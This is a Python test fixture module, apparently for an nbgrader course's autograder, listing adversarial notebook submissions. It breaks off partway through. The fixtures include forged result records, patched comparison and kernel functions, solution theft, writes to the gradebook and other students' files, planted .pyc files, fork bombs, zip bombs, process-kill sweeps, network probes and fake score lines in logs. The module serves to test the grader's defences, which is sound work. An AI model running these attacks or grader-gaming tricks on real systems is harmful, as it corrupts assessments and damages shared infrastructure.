"""The project's own hostile and faulty submissions (run by ``test_grading_adversarial.py``).

Each :class:`Attack` starts from the instructor's solutions (``base="solution"``) or the untouched
release (``base="release"``), replaces some answer cells (``answers``, grade_id -> code, or a function
of the instructor's code for that cell), may edit the notebook as a whole (``edit``; it may also return
the submitted file as ``str`` or ``bytes``, for a notebook that is not JSON at all) and add files to the
submission folder (``files``), and states which hidden test cells it must lose (``loses``): every other
cell keeps its full points, since the rest of the notebook is honest. An attack that earns a lost cell's
points has beaten the grader; an honest cell that loses points is a grading error.

``feedback`` lists texts the autograded notebook must show: a phrase of the verdict, or a line an
attack prints about what it could reach (e.g. "no host network"), so that damage the scores cannot
show is asserted too.
"""
from __future__ import annotations

import json
import textwrap
from dataclasses import dataclass, field
from typing import Callable

from nbgrader_course import NO_CARRY_BPTT

A1, A2, A3, A4, A5, A6, A7 = ("a1-recurrence", "a2-forward-loss", "a3-bptt", "a4-gradients-over-time",
                              "a5-teacher-forcing", "a6-lstm", "a7-char-lm")
A3_CELLS = ("test_rnn_step_forward", "test_rnn_step_backward", "test_rnn_forward",
            "test_rnn_backward_parameters", "test_rnn_backward_inputs", "test_output_backward")
LSTM_BACKWARD_CELLS = ("test_lstm_backward_parameters", "test_lstm_backward_inputs")


@dataclass(frozen=True)
class Attack:
    name: str
    category: str
    assignment: str
    answers: dict = field(default_factory=dict)
    loses: tuple | str = ()
    base: str = "solution"
    edit: Callable | None = None
    files: dict = field(default_factory=dict)
    feedback: tuple = ()
    absent: tuple = ()         # texts the autograded notebook must not show (the attack's success line)       # texts the autograded notebook must show

    def submission(self, course):
        """The submitted notebook: a dict, or ``str``/``bytes`` when ``edit`` wrote the file itself."""
        solutions = course.solutions(self.assignment)
        answers = {gid: (code(solutions[gid]) if callable(code) else code) for gid, code in self.answers.items()}
        nb = course.notebook(self.assignment, answers, base=self.base)
        if self.edit is not None:
            nb = self.edit(nb)
        return nb

    def expected_scores(self, course) -> dict:
        points = course.points(self.assignment)
        lost = set(points) if self.loses == "all" else set(self.loses)
        unknown = lost - set(points)
        assert not unknown, f"{self.name}: loses names unknown cells {sorted(unknown)}"
        return {k: (0.0 if k in lost else v) for k, v in points.items()}


# ---------------------------------------------------------------------------
# building blocks
# ---------------------------------------------------------------------------

#: a wrong rnn_backward (no carried gradient): the cells it would need to cheat on
NO_CARRY = NO_CARRY_BPTT
BACKWARD_CELLS = ("test_rnn_backward_parameters", "test_rnn_backward_inputs")


def with_prefix(code: str, body: str = NO_CARRY) -> str:
    """Attack code, then the learner's (wrong) rnn_backward."""
    return code + "\n" + body


def before(code: str):
    """Answer: attack code, then the instructor's (honest) code of that cell."""
    return lambda solution: textwrap.dedent(code) + "\n" + solution


def after(code: str):
    """Answer: the instructor's (honest) code of that cell, then attack code."""
    return lambda solution: solution + "\n" + textwrap.dedent(code)


def inside(function: str, code: str):
    """Answer: the honest ``function``, whose every call first runs ``code`` (its arguments are ``args``)."""
    body = textwrap.indent(textwrap.dedent(code), "    ")
    return after(f"_honest_{function} = {function}\n\n\ndef {function}(*args, **kwargs):\n{body}\n"
                 f"    return _honest_{function}(*args, **kwargs)\n")


def _cells(nb):
    return nb["cells"]


def _meta(cell):
    meta = cell.get("metadata", {}).get("nbgrader", {})
    return meta if isinstance(meta, dict) else {}


def _find(nb, gid):
    return next(i for i, c in enumerate(nb["cells"]) if _meta(c).get("grade_id") == gid)


def duplicate_cell(gid, source=None):
    def edit(nb):
        i = _find(nb, gid)
        copy = json.loads(json.dumps(nb["cells"][i]))
        if source is not None:
            copy["source"] = source
        copy.pop("id", None)
        nb["cells"].insert(i + 1, copy)
        return nb
    return edit


def set_source(gid, source):
    """The source of the first cell called ``gid``."""
    def edit(nb):
        nb["cells"][_find(nb, gid)]["source"] = source
        return nb
    return edit


def set_meta(gid, **changes):
    def edit(nb):
        cell = nb["cells"][_find(nb, gid)]
        cell["metadata"]["nbgrader"].update(changes)
        return nb
    return edit


def set_meta_all(**changes):
    def edit(nb):
        for cell in nb["cells"]:
            if "nbgrader" in cell.get("metadata", {}):
                cell["metadata"]["nbgrader"].update(changes)
        return nb
    return edit


def move_before(gid, anchor):
    def edit(nb):
        cell = nb["cells"].pop(_find(nb, gid))
        nb["cells"].insert(_find(nb, anchor), cell)
        return nb
    return edit


def add_cell_after(gid, source):
    """A code cell the learner added (no nbgrader metadata) right after the cell ``gid``."""
    def edit(nb):
        cell = {"cell_type": "code", "execution_count": None, "metadata": {}, "outputs": [],
                "source": textwrap.dedent(source)}
        nb["cells"].insert(_find(nb, gid) + 1, cell)
        return nb
    return edit


def drop_cells(predicate):
    def edit(nb):
        nb["cells"] = [c for c in nb["cells"] if not predicate(c)]
        return nb
    return edit


def to_markdown(gid):
    def edit(nb):
        cell = nb["cells"][_find(nb, gid)]
        cell["cell_type"] = "markdown"
        cell.pop("outputs", None)
        cell.pop("execution_count", None)
        return nb
    return edit


def chain(*edits):
    def edit(nb):
        for e in edits:
            nb = e(nb)
        return nb
    return edit


def _is_test_cell(cell) -> bool:
    return bool(_meta(cell).get("grade")) and not _meta(cell).get("solution")


#: Kernel-side helpers for forging what a hidden cell displays (the case runner's own encoding).
FORGE = '''
import base64 as _b64, os as _os
import numpy as _np
import rnnkit.grading.kernel as _kernel
from IPython.display import display as _display


def _show(npz_b64, grade_id, **extra):
    """Display a result record, as the case runner does."""
    rec = {"grade_id": grade_id, "npz": npz_b64}
    rec.update(extra)
    _display({_kernel.RESULTS_MIME: rec, "text/plain": "outputs recorded for grading"}, raw=True)


def _cases(grade_id):
    with open(_os.path.join(_os.environ.get("RNNKIT_CASES", "/grading/cases"), grade_id + ".npz"), "rb") as f:
        return _kernel.decode_calls(f.read())


def _forged(grade_id, value_of, **fields):
    """A well-formed payload for ``grade_id`` whose values are value_of(*args) for each case."""
    recs = []
    for args in _cases(grade_id):
        rec = {"value": value_of(*args), "error": None, "modified": [], "aliased": [], "objects": {}}
        rec.update(fields)
        recs.append(rec)
    return _b64.b64encode(_kernel.encode_results(grade_id, recs)).decode()


def _on_check(grade_id, action):
    """From now on the hidden cell ``grade_id`` runs action(fn) instead of the real case runner."""
    real = _kernel.run_check

    def run_check(gid, fn, *a, _real=real, **kw):
        if gid == grade_id:
            return action(fn)
        return _real(gid, fn, *a, **kw)
    _kernel.run_check = run_check
'''


def forge(code: str) -> str:
    return FORGE + "\n" + textwrap.dedent(code)


def zip_bomb(lie: bool) -> str:
    """Kernel code: ``_bomb``, base64 of an npz whose member inflates to 256 MB of zeros (~250 kB
    compressed); with ``lie`` the archive's directory claims the member is 1000 bytes."""
    return f'''
import io as _io, zipfile as _zf, struct as _st
_buf = _io.BytesIO()
with _zf.ZipFile(_buf, "w", compression=_zf.ZIP_DEFLATED) as _z:
    with _z.open("a0.npy", "w") as _m:
        _hdr = _io.BytesIO()
        _np.lib.format.write_array_header_1_0(_hdr, {{"descr": "<f8", "fortran_order": False, "shape": (2**25,)}})
        _m.write(_hdr.getvalue())
        _chunk = bytes(2**20)
        for _ in range(256):
            _m.write(_chunk)
_bomb = bytearray(_buf.getvalue())
if {lie!r}:
    _at = _bomb.find(b"PK\\x01\\x02")
    _bomb[_at + 24:_at + 28] = _st.pack("<I", 1000)
_bomb = _b64.b64encode(bytes(_bomb)).decode()
'''


#: Kernel code: ``_found(*names)``, (path, text) of every readable file with one of these names in the
#: places a learner would look (the course tree, home, /tmp, the grading directories), the rnnkit entries
#: of every sys.path directory, and a few guessed paths (a walk of at most 2 s).
SEARCH = '''
import os as _os, sys as _sys, time as _time


def _found(*names, guesses=()):
    out, t0 = [], _time.monotonic()
    paths = list(guesses)
    for root in ["/work", "/root", "/home", "/srv", "/opt", "/tmp", "/grading", "..", "../..", "../../.."]:
        for dirpath, dirnames, filenames in _os.walk(root):
            if _time.monotonic() - t0 > 2:
                break
            dirnames[:] = [d for d in dirnames if d not in ("site-packages", "__pycache__", "proc")]
            paths += [_os.path.join(dirpath, n) for n in filenames if n in names]
    for d in _sys.path:
        if d and _os.path.isdir(d):
            for n in _os.listdir(d):
                if "rnnkit" in n or n in names:
                    p = _os.path.join(d, n)
                    paths += [_os.path.join(p, m) for m in _os.listdir(p)] if _os.path.isdir(p) else [p]
    for p in paths:
        try:
            with open(p, errors="replace") as f:
                out.append((p, f.read()))
        except OSError:
            pass
    return out
'''


# ---------------------------------------------------------------------------
# small pieces of learner code
# ---------------------------------------------------------------------------

#: what a careless learner prints, logs and warns, at the top of a cell and in every call
NOISE = '''
import logging as _logging, sys as _sys, warnings as _warnings
print("defining my functions ...")
print("debug: numpy", np.__version__, file=_sys.stderr)
_warnings.warn("this cell is slow", RuntimeWarning)
_logging.getLogger("learner").warning("cell started")
'''
NOISY_CALL = '''
print("called with", len(args), "arguments")
print("shapes:", [getattr(a, "shape", None) for a in args], file=_sys.stderr)
_warnings.warn("still slow", UserWarning)
_logging.getLogger("learner").error("a call")
'''

#: a detached grandchild that outlives the cell and then tries to change the course and the gradebook
DETACHED_WRITER = '''
import os as _os, time as _time
if _os.fork() == 0:
    _os.setsid()
    if _os.fork() == 0:
        _time.sleep(4)
        for p in ["../../../gradebook.db", "../../gradebook.db", "/work/main/nbgrader_config.py", "/tmp/owned",
                  "../../../submitted/s001-b-honest/a1-recurrence/a1-recurrence.ipynb", "/grading/cases/x"]:
            try:
                with open(p, "a") as f:
                    f.write("# owned\\n")
            except OSError:
                pass
    _os._exit(0)
_os.wait()
'''

#: every place a learner might write to reach someone else
WRITE_EVERYWHERE = '''
import os as _os, glob as _glob
_targets = ["../../../nbgrader_config.py", "../../nbgrader_config.py", "/work/main/nbgrader_config.py",
            "../../../gradebook.db", "/grading/kernel.json", "/grading/cases/evil.npz", "/grading/lib/rnnkit/__init__.py",
            "/usr/lib/python3/dist-packages/evil.pth"]
_targets += _glob.glob("../../../submitted/*/*/*.ipynb") + _glob.glob("/tmp/*/submitted/*/*/*.ipynb")
_targets += _glob.glob("/work/*/nbgrader_config.py") + _glob.glob("/root/**/nbgrader_config.py", recursive=True)
_wrote = []
for _p in _targets:
    try:
        with open(_p, "a") as _f:
            _f.write("\\n# owned\\n")
        _wrote.append(_p)
    except OSError:
        pass
print("wrote to:", [p for p in _wrote if not p.startswith("/tmp")] or " ".join(["nothing", "outside", "my", "sandbox"]))
'''

#: .pyc files planted where a later import (or another student's kernel) might pick them up
WRITE_PYC = '''
import os as _os, sys as _sys, py_compile as _pc, importlib.util as _iu
_src = "/tmp/evil_src.py"
with open(_src, "w") as _f:
    _f.write("import builtins\\nbuiltins.owned = True\\n")
_planted = []
for _d in [_os.path.dirname(_np.__file__), _os.path.dirname(_os.__file__), "/grading/lib/rnnkit",
           "/grading/lib/rnnkit/grading/kernel"] + _sys.path:
    if not _d:
        continue
    for _name in ("numpy", "os", "rnnkit", "__init__", "calls"):
        _target = _os.path.join(_d, "__pycache__", _iu.cache_from_source(_os.path.join(_d, _name + ".py")).rsplit("/", 1)[-1])
        try:
            _os.makedirs(_os.path.dirname(_target), exist_ok=True)
            _pc.compile(_src, cfile=_target, doraise=True)
            _planted.append(_target)
        except Exception:
            pass
# the kernel's own /tmp and working directory are private tmpfs mounts, gone with the kernel:
# a file planted there reaches nobody else (relative sys.path entries resolve into the working dir)
_private = ("/tmp/", "/home/learner/")
print("planted:", [p for p in map(_os.path.abspath, _planted) if not p.startswith(_private)]
      or " ".join(["nothing", "outside", "/tmp"]))
'''

#: signals to the parent, to pid 1 and to every process the kernel may signal (kill(-1))
SIGNALS = '''
import os as _os, signal as _signal
for _pid, _sig in [(_os.getppid(), _signal.SIGTERM), (_os.getppid(), _signal.SIGKILL), (1, _signal.SIGKILL),
                   (-1, _signal.SIGTERM), (-1, _signal.SIGKILL)]:
    try:
        _os.kill(_pid, _sig)
    except OSError:
        pass
'''
#: SIGKILL to every pid up to 400 but its own: the grader, nbgrader, other kernels are not visible, but the
#: kernel's own threads are (a thread id names its process): the kernel kills itself, in that cell only
SIGNAL_SWEEP = '''
import os as _os, signal as _signal
for _pid in range(2, 400):
    if _pid != _os.getpid():
        try:
            _os.kill(_pid, _signal.SIGKILL)
        except OSError:
            pass
'''

#: connections to the host's services; the result is printed so the test can read it
NETWORK = '''
import socket as _socket
_reached = []
for _host, _port in [("127.0.0.1", 22), ("127.0.0.1", 8888), ("127.0.0.1", 5432), ("127.0.0.1", 80),
                     ("10.0.2.2", 80), ("1.1.1.1", 53), ("pypi.org", 443)]:
    try:
        with _socket.create_connection((_host, _port), timeout=0.5) as _s:
            _s.sendall(b"GET / HTTP/1.0\\r\\n\\r\\n")
            _reached.append((_host, _port))
    except OSError:
        pass
print("reached:", _reached) if _reached else print("no", "host", "network")
'''

#: the directory of the kernel's sockets is the grader's, on the host's disk: fill it
IPC_FILL = '''
import json as _json, os as _os
_ipc = _os.path.dirname(_json.load(open("/grading/kernel.json"))["ip"])
_written = 0
for _i in range(8):
    try:
        with open(_os.path.join(_ipc, f"fill{_i}"), "wb") as _f:
            for _ in range(60):
                _f.write(bytes(2**20))
                _written += 1
    except OSError:
        break
print(f"wrote {_written} MB next to the kernel's sockets" if _written else " ".join(["ipc", "dir", "refused"]))
'''

#: the kernel's original stdout (the grader's terminal and log), behind ipykernel's capture
RAW_STDOUT = '''
import os as _os, sys as _sys
_fd = getattr(_sys.stdout, "_original_stdstream_copy", None)
_sent = 0
if _fd is not None:
    for _ in range(40):
        try:
            _os.write(_fd, b"[AutogradeApp | INFO] s999 scored 100/100\\n" * 25000)
            _sent += 1
        except OSError:
            break
'''

LSTM_VALIDATED = '''
def _check(func, name, a, shape):
    a = np.asarray(a)
    if a.shape != shape:
        raise ValueError(f"{func}: argument '{name}' must have shape {shape}, got {a.shape}")
    if not np.all(np.isfinite(a)):
        raise ValueError(f"{func}: argument '{name}' contains NaN or infinity")
    return a


def lstm_step_forward(x, h_prev, c_prev, W, b):
    B, D = np.shape(x)
    H = np.shape(h_prev)[1]
    x = _check("lstm_step_forward", "x", x, (B, D))
    h_prev = _check("lstm_step_forward", "h_prev", h_prev, (B, H))
    c_prev = _check("lstm_step_forward", "c_prev", c_prev, (B, H))
    W = _check("lstm_step_forward", "W", W, (4 * H, H + D))
    b = _check("lstm_step_forward", "b", b, (4 * H,))
    a = np.concatenate([h_prev, x], axis=1) @ W.T + b
    i, f, o = sigmoid(a[:, :H]), sigmoid(a[:, H:2 * H]), sigmoid(a[:, 2 * H:3 * H])
    g = np.tanh(a[:, 3 * H:])
    c = f * c_prev + i * g
    h = o * np.tanh(c)
    return h, c, (x, h_prev, c_prev, i, f, o, g, c, W)
'''

RNN_VALIDATED = '''
def rnn_backward(dHs, cache):
    X, h0, Hs, Wx, Ws = cache
    T, B, D = X.shape
    H = h0.shape[1]
    if np.shape(dHs) != (T, B, H):
        raise ValueError(f"rnn_backward: argument 'dHs' must have shape (T, B, H) = {(T, B, H)}, got {np.shape(dHs)}")
    if np.shape(Hs) != (T, B, H):
        raise ValueError(f"rnn_backward: argument 'cache' holds Hs of shape {np.shape(Hs)}, expected {(T, B, H)}")
    dX = np.zeros_like(X)
    dWx, dWs, db = np.zeros_like(Wx), np.zeros_like(Ws), np.zeros(H)
    dh_next = np.zeros_like(h0)
    for t in reversed(range(T)):
        h_prev = Hs[t - 1] if t > 0 else h0
        dX[t], dh_next, a, b_, c = rnn_step_backward(dHs[t] + dh_next, (X[t], h_prev, Hs[t], Wx, Ws))
        dWx += a; dWs += b_; db += c
    return dX, dh_next, dWx, dWs, db


_honest_step_backward = rnn_step_backward


def rnn_step_backward(dh, cache):
    if len(cache) != 5:
        raise ValueError("rnn_step_backward: argument 'cache' must be (x, h_prev, h, Wx, Ws)")
    if np.shape(dh) != np.shape(cache[2]):
        raise ValueError(f"rnn_step_backward: argument 'dh' must have shape {np.shape(cache[2])}, got {np.shape(dh)}")
    return _honest_step_backward(dh, cache)
'''


ATTACKS: list[Attack] = [
    # =========================================================================================
    # a3-bptt (the first suite)
    # =========================================================================================
    # -- forging what the kernel reports ---------------------------------------
    Attack("forge-run-check", "tamper with the case runner", A3, {"rnn_backward": with_prefix('''
import rnnkit.grading.kernel.calls as _calls
_real = _calls.run_calls
def _forged(fn, calls, *a, **k):
    out = _real(fn, calls, *a, **k)
    if getattr(fn, "__name__", "") == "rnn_backward":
        for rec in out:
            rec["value"] = tuple(np.zeros_like(np.asarray(v)) for v in rec["value"])
    return out
_calls.run_calls = _forged
''')}, loses=BACKWARD_CELLS),
    Attack("reference-import", "call the reference", A3, {"rnn_backward": '''
import rnnkit
def rnn_backward(dHs, cache):
    return rnnkit.rnn_backward(dHs, rnnkit.RNNCache(*cache))
'''}, loses=BACKWARD_CELLS, feedback=("rnn_backward raised",)),
    Attack("read-solutions", "read the course tree", A3, {"rnn_backward": '''
import json, glob
src = ""
for p in glob.glob("../../../source/*/*.ipynb") + glob.glob("/work/*/source/*/*.ipynb"):
    src = json.load(open(p))
exec("".join(c["source"] for c in src["cells"] if c["metadata"]["nbgrader"]["grade_id"] == "rnn_backward"))
'''}, loses=BACKWARD_CELLS),
    Attack("payload-for-another-grade-id", "forge the result record", A3, {"rnn_backward": forge('''
def _as_parameters(fn):
    recs = _kernel.run_calls(fn, _cases("test_rnn_backward_inputs"))
    _show(_b64.b64encode(_kernel.encode_results("test_rnn_backward_parameters", recs)).decode(), "test_rnn_backward_inputs")
_on_check("test_rnn_backward_inputs", _as_parameters)
''') + NO_CARRY}, loses=BACKWARD_CELLS, feedback=("belong to another check",)),
    Attack("forged-modified-index", "forge the result record", A3, {"rnn_step_forward": before(forge('''
def _odd_record(fn):
    recs = _kernel.run_calls(fn, _cases("test_rnn_step_forward"))
    for r in recs:
        r["modified"] = [-99]
    _show(_b64.b64encode(_kernel.encode_results("test_rnn_step_forward", recs)).decode(), "test_rnn_step_forward")
_on_check("test_rnn_step_forward", _odd_record)
'''))}, loses=("test_rnn_step_forward",)),
    Attack("ipython-input-transformer", "patch the kernel", A3, {"rnn_backward": with_prefix('''
def _drop_checks(lines):
    if any("test_rnn_backward" in line for line in lines):
        return [line for line in lines if "run_check" not in line]
    return lines
get_ipython().input_transformers_post.append(_drop_checks)
''')}, loses=BACKWARD_CELLS, feedback=("no outputs were recorded",)),
    Attack("submitted-numpy-py", "shadow a module from the submission", A3, {"rnn_backward": with_prefix('''
import numpy
assert getattr(numpy, "OWNED", False) or True
''')}, files={"numpy.py": "OWNED = True\nallclose = lambda *a, **k: True\n",
              "rnnkit/__init__.py": "from .layers import *\n",
              "rnnkit/grading/kernel/__init__.py": "def run_check(grade_id, fn):\n    print('all tests passed')\n"},
           loses=BACKWARD_CELLS),
    # -- crashing and hanging ----------------------------------------------------
    Attack("os-exit-in-output", "kernel death", A3, {"output_backward": '''
def output_backward(dO, Hs, Wy):
    import os
    os._exit(3)
'''}, loses=("test_output_backward",), feedback=("exit status 3",)),
    Attack("sigint-ignoring-loop", "timeout", A3, {"rnn_step_forward": '''
import signal
def rnn_step_forward(x, h_prev, Wx, Ws, b):
    signal.signal(signal.SIGINT, signal.SIG_IGN)
    while True:
        pass
'''}, loses=("test_rnn_step_forward", "test_rnn_forward"), feedback=("ran longer than",)),
    Attack("oracle-search-for-the-carry", "exploit the blame oracle", A3, {"rnn_backward": '''
import hashlib as _hl
from rnnkit.grading import kernel as _kernel


def _grader_would_answer(step, *args):
    """Whether the grader's stand-in for my step function knows these inputs (its table is right there)."""
    boxes = getattr(step, "_boxes", None)
    if boxes is None:
        return False
    return _hl.sha256(b"tag:" + b"".join(_kernel.canonical_bytes(tuple(args), []))).digest() in boxes


def rnn_backward(dHs, cache):
    X, h0, Hs, Wx, Ws = cache
    T = X.shape[0]
    dX = np.zeros_like(X)
    dWx, dWs, db = np.zeros_like(Wx), np.zeros_like(Ws), np.zeros(Ws.shape[0])
    dh_next = np.zeros_like(h0)
    for t in reversed(range(T)):
        step_cache = (X[t], Hs[t - 1] if t > 0 else h0, Hs[t], Wx, Ws)
        dh = dHs[t]  # I do not know whether the gradient from step t+1 belongs here: ask
        if _grader_would_answer(rnn_step_backward, dHs[t] + dh_next, step_cache):
            dh = dHs[t] + dh_next
        dX[t], dh_next, a, b_, c = rnn_step_backward(dh, step_cache)
        dWx += a; dWs += b_; db += c
    return dX, dh_next, dWx, dWs, db
'''}, loses=BACKWARD_CELLS),  # with my own (correct) step function the carry is missing: wrong in real use
    # -- honest work -------------------------------------------------------------
    Attack("honest-valueerror-checks", "honest work", A3, {"rnn_backward": RNN_VALIDATED}),
    Attack("write-other-students-folders", "damage to others", A3, {"rnn_forward": after(WRITE_EVERYWHERE)},
           feedback=("nothing outside my sandbox",)),
    Attack("display-update-flood", "limits", A3, {}, edit=add_cell_after("rnn_step_backward", '''
from IPython.display import display, update_display
for i in range(40):
    display({"text/plain": "."}, raw=True, display_id=f"d{i}")
for i in range(40):
    update_display({"text/plain": "x" * 2**21}, raw=True, display_id=f"d{i}")
''')),
    Attack("payload-flood-in-added-cell", "limits", A3, {}, edit=add_cell_after("rnn_forward", forge('''
_blob = _b64.b64encode(_os.urandom(5 * 2**20)).decode()
for _ in range(6):
    _show(_blob, "test_rnn_forward")
''')), loses=()),
    # -- the notebook as a file ----------------------------------------------------
    Attack("duplicated-answer-cell", "honest notebook edits", A3, {}, loses=(),
           edit=duplicate_cell("rnn_forward")),
    Attack("test-cell-moved-up", "honest notebook edits", A3, {}, loses=(),
           edit=move_before("test_rnn_forward", "rnn_forward")),
    Attack("schema-downgrade", "malformed metadata", A3, {}, loses=(),
           edit=chain(set_meta("rnn_forward", schema_version=1), set_meta("test_rnn_forward", schema_version=99))),

    # =========================================================================================
    # a1-recurrence
    # =========================================================================================
    Attack("numpy-comparisons-patched", "patch numpy", A1, {"recurrence_step": '''
np.allclose = lambda *a, **k: True
np.isclose = lambda a, b, *r, **k: np.ones(np.broadcast(np.asarray(a), np.asarray(b)).shape, dtype=bool)
np.array_equal = lambda *a, **k: True
np.testing.assert_allclose = lambda *a, **k: None
np.testing.assert_array_equal = lambda *a, **k: None
try:
    np.ndarray.__eq__ = lambda self, other: True
except TypeError:  # "cannot set '__eq__' attribute of immutable type"
    pass


def recurrence_step(s_prev, x, Wx, Ws, b):
    return np.zeros((np.shape(x)[0], np.shape(Ws)[0]))
'''}, loses=("test_recurrence_step",)),
    Attack("fake-payload-in-answer-cell", "forge the result record", A1, {"unroll": forge('''
def unroll(f, X, s0):
    return np.zeros((len(X),) + np.shape(s0))

# the hidden cell's record, displayed right here (with plausible values: the inputs)
_show(_forged("test_unroll", lambda f, X, s0: np.repeat(s0[None], len(X), axis=0)), "test_unroll")
''')}, loses=("test_unroll",)),
    Attack("kernel-module-swapped", "replace rnnkit.grading.kernel", A1, {"rnn_parameter_count": forge('''
import sys as _sys, types as _types
_fake = _types.ModuleType("rnnkit.grading.kernel")
_fake.__dict__.update(_kernel.__dict__)
_real_run_check = _kernel.run_check


def _lying_run_check(grade_id, fn, *a, **k):
    if grade_id == "test_rnn_parameter_count":
        _show(_forged(grade_id, lambda D, H, K: int(D * H)), grade_id)
        print("PASSED - rnn_parameter_count correct")
        return
    return _real_run_check(grade_id, fn, *a, **k)


_fake.run_check = _lying_run_check
_sys.modules["rnnkit.grading.kernel"] = _fake
import rnnkit.grading as _rg
_rg.kernel = _fake


def rnn_parameter_count(D, H, K):
    return D * H
''')}, loses=("test_rnn_parameter_count",)),
    Attack("double-fork-writer", "damage to others", A1, {"recurrence_step": after(DETACHED_WRITER)}),
    Attack("duplicated-cell-last-wins", "honest notebook edits", A1, {},
           edit=chain(duplicate_cell("unroll"), set_source("unroll", "def unroll(f, X, s0):\n    return None\n"))),
    Attack("duplicated-cell-last-is-wrong", "honest notebook edits", A1, {},
           edit=duplicate_cell("unroll", source="def unroll(f, X, s0):\n    return np.zeros(1)\n"),
           loses=("test_unroll",), feedback=("appears 2 times",)),
    Attack("deleted-test-cells", "honest notebook edits", A1, {}, edit=drop_cells(_is_test_cell)),
    Attack("allocate-3gb-in-function", "limits", A1, {"rnn_parameter_count": inside("rnn_parameter_count", '''
big = np.ones(3 * 2**30 // 8)
''')}, loses=("test_rnn_parameter_count",), feedback=("MemoryError",)),
    Attack("corrupt-json-truncated", "corrupt notebook", A1, {},
           edit=lambda nb: json.dumps(nb).encode()[: len(json.dumps(nb)) // 2], loses="all"),

    # =========================================================================================
    # a2-forward-loss
    # =========================================================================================
    Attack("builtins-patched-for-kernel", "patch builtins", A2, {"softmax": '''
import builtins as _bi, sys as _sys
_all, _any, _isinstance = _bi.all, _bi.any, _bi.isinstance


def _from_grader():
    return _sys._getframe(2).f_globals.get("__name__", "").startswith("rnnkit")


_bi.all = lambda it: True if _from_grader() else _all(it)
_bi.any = lambda it: False if _from_grader() else _any(it)


def softmax(O):
    return np.full(np.shape(O), 1.0 / np.shape(O)[-1])
'''}, loses=("test_softmax",)),
    Attack("several-payloads", "forge the result record", A2, {"sequence_nll": inside("sequence_nll", forge('''
_show(_b64.b64encode(b"PK").decode(), "test_sequence_nll")
'''))}, loses=("test_sequence_nll",), feedback=("several result records",)),
    Attack("ndarray-subclass-equal", "values that pretend", A2, {"hidden_to_hidden_forward": '''
class _Agreeable(np.ndarray):
    def __eq__(self, other):
        return np.ones(self.shape, dtype=bool)
    __ne__ = lambda self, other: np.zeros(self.shape, dtype=bool)
    def __array_ufunc__(self, ufunc, method, *inputs, **kwargs):
        return np.zeros(np.broadcast(*[np.asarray(i) for i in inputs]).shape)


def hidden_to_hidden_forward(X, h0, Wx, Ws, b, Wy, c):
    return np.zeros((X.shape[0], X.shape[1], Wy.shape[0])).view(_Agreeable)
'''}, loses=("test_hidden_to_hidden_forward",)),
    Attack("ctypes-segfault-in-one-function", "kernel death", A2, {"output_to_hidden_forward": '''
def output_to_hidden_forward(X, Yprev, Wx, Wo, b, Wy, c):
    import ctypes
    return ctypes.string_at(0)
'''}, loses=("test_output_to_hidden_forward",), feedback=("killed by signal SIGSEGV",)),
    Attack("fork-bomb-in-one-function", "limits", A2, {"sequence_to_one_forward": '''
def sequence_to_one_forward(X, h0, Wx, Ws, b, Wy, c):
    import os
    while True:
        try:
            os.fork()
        except OSError:
            pass
'''}, loses=("test_sequence_to_one_forward",), feedback=("ran longer than",)),
    Attack("prints-stderr-warnings-logging", "honest work", A2, {
        "softmax": lambda s: NOISE + inside("softmax", NOISY_CALL)(s),
        "sequence_nll": lambda s: NOISE + inside("sequence_nll", NOISY_CALL)(s),
        "output_to_hidden_forward": lambda s: NOISE + inside("output_to_hidden_forward", NOISY_CALL)(s)}),
    Attack("import-rnnkit-layers", "call the reference", A2, {"softmax": '''
try:
    from rnnkit.layers import softmax as _reference
except ImportError:
    try:
        from rnnkit import softmax as _reference
    except ImportError:
        _reference = None


def softmax(O):
    if _reference is not None:
        return _reference(O)
    return np.exp(O) / np.exp(O).sum()
'''}, loses=("test_softmax",)),
    Attack("npz-zip-bomb-lying-sizes", "forge the result record", A2, {"sequence_nll": before(forge(zip_bomb(True) + '''
_on_check("test_sequence_nll", lambda fn: _show(_bomb, "test_sequence_nll"))
'''))}, loses=("test_sequence_nll",), feedback=("could not be read",)),
    Attack("write-pyc-into-paths", "damage to others", A2, {"softmax": after("import numpy as _np\n" + WRITE_PYC)},
           feedback=("nothing outside /tmp",)),
    Attack("allocate-3gb-caught", "limits", A2, {"hidden_to_hidden_forward": inside("hidden_to_hidden_forward", '''
try:
    big = np.ones(3 * 2**30 // 8)
except MemoryError:
    big = None
''')}),
    Attack("malformed-cell-fields", "malformed metadata", A2, {},
           edit=chain(set_source("sequence_nll", {"not": "a string"}),
                      lambda nb: (nb["cells"][_find(nb, "test_softmax")]["metadata"].update(nbgrader="oops"), nb)[1],
                      set_meta("test_sequence_to_one_forward", grade_id=17)),
           loses=("test_sequence_nll",)),
    Attack("corrupt-notebook-structure", "corrupt notebook", A2, {},
           edit=lambda nb: json.dumps({"cells": {"x": 1}, "metadata": [], "nbformat": 4, "nbformat_minor": 5}),
           loses="all"),

    # =========================================================================================
    # a4-gradients-over-time
    # =========================================================================================
    Attack("ast-transformer", "patch the kernel", A4, {"clip_by_value": '''
import ast as _ast


class _NoChecks(_ast.NodeTransformer):
    def visit_Call(self, node):
        if getattr(node.func, "id", "") == "run_check" and any(
                isinstance(a, _ast.Constant) and a.value == "test_clip_by_value" for a in node.args):
            return _ast.Constant(None)
        return self.generic_visit(node)


get_ipython().ast_transformers.append(_NoChecks())


def clip_by_value(grads, limit):
    return {k: v.copy() for k, v in grads.items()}
'''}, loses=("test_clip_by_value",), feedback=("no outputs were recorded",)),
    Attack("malformed-base64", "forge the result record", A4, {"tbptt_backward": after(forge('''
_on_check("test_tbptt_backward", lambda fn: _show("not base64 at all!!", "test_tbptt_backward"))
'''))}, loses=("test_tbptt_backward",), feedback=("malformed",)),
    Attack("env-var-branching", "branch on the grading environment", A4, {"jacobian_to_last": inside("jacobian_to_last", '''
import os as _os
if _os.environ.get("NBGRADER_EXECUTION") or "RNNKIT_CASES" in _os.environ or _os.getuid() == 65534:
    Hs, Ws, t = args
    return np.broadcast_to(np.eye(Ws.shape[0]), (Hs.shape[1],) + Ws.shape).copy()
''')}, loses=("test_jacobian_to_last",)),
    Attack("import-rnnkit-grading", "call the reference", A4, {"tbptt_backward": '''
import importlib as _il
_ref = None
for _name in ("rnnkit.grading.a4_gradients_over_time", "rnnkit.tbptt", "rnnkit.layers", "rnnkit"):
    try:
        _m = _il.import_module(_name)
    except Exception:
        continue
    _ref = getattr(_m, "tbptt_backward", None) or getattr(_m, "rnn_backward", None) or _ref


def tbptt_backward(dHs, cache, k):
    if _ref is not None:
        g = _ref(dHs, cache)
        return g[0], g[2], g[3], g[4]
    X, h0, Hs, Wx, Ws = cache
